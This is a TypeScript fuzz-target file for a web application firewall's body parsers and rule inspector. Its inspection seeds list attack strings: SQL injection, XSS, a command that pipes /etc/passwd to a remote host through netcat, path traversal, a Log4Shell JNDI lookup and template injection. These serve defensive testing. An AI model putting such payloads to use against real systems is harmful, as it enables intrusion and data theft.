import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { CookieReader } from "../../src/body/cookie.ts";
import { defaultFormLimits, FormReader } from "../../src/body/form.ts";
import { JsonReader } from "../../src/body/json.ts";
import { defaultJsonLimits } from "../../src/body/json-limit.ts";
import { MultipartReader } from "../../src/body/multipart.ts";
import { FORM_VALUE, Place, type ValueSink } from "../../src/body/place.ts";
import { SnappyBlock } from "../../src/body/snappy.ts";
import { XmlReader } from "../../src/body/xml.ts";
import { buildRuleSet, kindsOfDetectors } from "../../src/waf/compile.ts";
import { detectors } from "../../src/waf/detectors.ts";
import { Inspector } from "../../src/waf/inspector.ts";
import { parseRules } from "../../src/waf/parse-rules.ts";
import { compileProfile } from "../../src/waf/profile.ts";
import { Scratch } from "../../src/waf/scratch.ts";
import { inPieces, valueList } from "../support/value-list.ts";
import { cutOf, type Target } from "./target.ts";

interface Reader {
  write(bytes: Uint8Array, start: number, end: number): string | undefined;
  end(): string | undefined;
}

/** Whatever the cut, a reader says the same of the same bytes, and reports the same values. */
function sameInPieces(bytes: Buffer, open: (sink: ValueSink) => Reader): void {
  const read = (cuts: readonly number[]): unknown => {
    const sink = valueList();
    const reader = open(sink);
    const reason =
      inPieces(bytes, cuts, (piece, start, end) => reader.write(piece, start, end)) ?? reader.end();
    for (const [, , start, end] of sink.seen)
      assert.ok(start <= end && end <= bytes.length, "a place in the body");
    return { reason, seen: sink.seen };
  };
  const whole = read([]);
  const cut = cutOf(bytes);
  assert.deepEqual(read([cut]), whole);
  assert.deepEqual(read([cut, (cut * 7) % (bytes.length + 1), cut + 1]), whole);
}

/** Bodies on their way to the WAF, and the WAF's own look at a value. */
export const bodyTargets: readonly Target[] = [
  {
    name: "json",
    covers: ["/src/body/json"],
    seeds: [
      '{"a":[1,-2.5e3,"x\\u0041\\n",true,null],"b":{"c":""}}',
      '[[["\u00e9\ud83d\ude00"]]]',
      '"\\ud83d\\ude00"',
    ],
    words: ["{", "}", "[", "]", '"', "\\u00", "\\ud83d", ":", ",", "1e999", "null", '"a":'],
    run: (bytes) => sameInPieces(bytes, (sink) => new JsonReader(sink, defaultJsonLimits, 0x5eed)),
  },
  {
    name: "form",
    covers: ["/src/body/form"],
    seeds: ["a=1&b=%41+c&b=2&c", "q=%00%zz&&=&x=y;z=1"],
    words: ["&", "=", "%41", "+", ";", "a=1&a=2"],
    run: (bytes) => sameInPieces(bytes, (sink) => new FormReader(sink, defaultFormLimits, 99)),
  },
  {
    name: "multipart",
    covers: ["/src/body/multipart", "/src/body/part-head"],
    seeds: [
      '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--b\r\nContent-Disposition: form-data; name="f"; filename="x.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--\r\n',
    ],
    words: [
      "--b",
      "--b--",
      "\r\n",
      'name="',
      "filename*=UTF-8''x",
      "Content-Disposition: form-data",
      "\r\n\r\n",
    ],
    run: (bytes) => sameInPieces(bytes, (sink) => new MultipartReader("b", sink)),
  },
  {
    name: "xml",
    covers: ["/src/body/xml"],
    seeds: [
      '<?xml version="1.0"?><a b="c &amp; d"><!-- x --><e>t<![CDATA[ <x> ]]></e><f/></a>',
      "<a>&#x41;&#66;</a>",
    ],
    words: ["<", "/>", "</a>", "<![CDATA[", "]]>", "<!--", "-->", "&amp;", "&#", "<!DOCTYPE", "<?", '="'],
    run: (bytes) => sameInPieces(bytes, (sink) => new XmlReader(sink)),
  },
  {
    name: "cookies",
    covers: ["/src/body/cookie"],
    seeds: ['a=1; b="2; 3"; c', "x=\xff;;=;y"],
    words: ["; ", "=", '"', "a=b"],
    run(bytes) {
      const sink = valueList();
      const reader = new CookieReader(sink, 100);
      reader.read(bytes, 0, bytes.length);
      for (const [, , start, end] of sink.seen) assert.ok(start <= end && end <= bytes.length);
    },
  },
  {
    name: "snappy",
    covers: ["/src/body/snappy"],
    seeds: ["\x0a\x04ab\x01\x02\x0e\x02\0", "\x05\xf0\x04abcde", "\x48\0a\xfe\x01\0\x1a\x01\0"],
    words: [
      "\xf0\x04",
      "\xfc\xff\xff\xff\xff",
      "\x01\x01",
      "\x0e\x02\0",
      "\x0f\x02\0\0\0",
      "\xff\xff\xff\xff\x0f",
    ],
    run: undoSnappy,
  },
  inspection(),
];

/** Whatever the cut, the same comes out, and takes no more memory than it fills. */
function undoSnappy(bytes: Buffer): void {
  const undo = (cut: number, count: number): unknown => {
    const block = new SnappyBlock(1_000_000);
    for (let at = 0; at < bytes.length || block.hasMore; ) {
      const before = block.end;
      const read = block.read(bytes, at, at < cut ? cut : bytes.length, count);
      if (typeof read === "string") return read;
      assert.ok(read > at || block.end > before, "goes on");
      at = read;
    }
    assert.ok(
      block.output.length <= Math.max(1024, block.end * 2 + 64),
      `${block.output.length} for ${block.end}`,
    );
    return { isWhole: block.isWhole, body: block.output.toString("latin1", 0, block.end) };
  };
  const whole = undo(0, 1_000_000);
  assert.deepEqual(undo(cutOf(bytes), 7), whole);
}

/** Views, decoders, detectors and rules over one value: never a failure, and every finding lies in what was read. */
function inspection(): Target {
  let inspector: Inspector | undefined;
  let profile: ReturnType<typeof compileProfile> | undefined;
  return {
    name: "inspection",
    covers: ["/src/waf/"],
    seeds: [
      "1 union/**/select user,password from users--",
      "<img src=x onerror=alert(1)>",
      "; cat /etc/passwd | nc 1.2.3.4 80",
      "%252e%252e%252fetc%252fpasswd",
      "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      "${jndi:ldap://x/a}{{7*7}}<%= x %>",
      "\\u003cscript\\u003e&lt;svg/onload&#61;",
    ],
    words: [
      "'",
      '"',
      "`",
      "/*",
      "*/",
      "--",
      "<",
      ">",
      "%25",
      "%u0027",
      "&#x27;",
      "\\x3c",
      "${",
      "{{",
      "union select",
      "script",
      "$(",
      "../",
      "\0",
      "+ACc-",
    ],
    run(bytes) {
      if (inspector === undefined || profile === undefined) {
        const folder = path.join(import.meta.dirname, "../../rules");
        const files = readdirSync(folder).filter((name) => name.endsWith(".toml"));
        const texts = files.map((file) => ({ file, text: readFileSync(path.join(folder, file), "utf8") }));
        const { rules } = parseRules(texts, new Set(kindsOfDetectors(detectors).keys()));
        const ruleSet = buildRuleSet(rules, detectors);
        inspector = new Inspector(new Scratch(ruleSet));
        profile = compileProfile(ruleSet, { allFindings: true, sensitivity: 4 });
      }
      const place = new Place({ placeName: () => "q" });
      place.kind = FORM_VALUE;
      inspector.begin(profile);
      inspector.value(bytes, 0, bytes.length, place);
      for (const { rule, excerpt } of inspector.findings) {
        assert.notEqual(rule.id, "");
        assert.ok(excerpt.length <= 512, `${excerpt.length}`);
      }
    },
  };
}
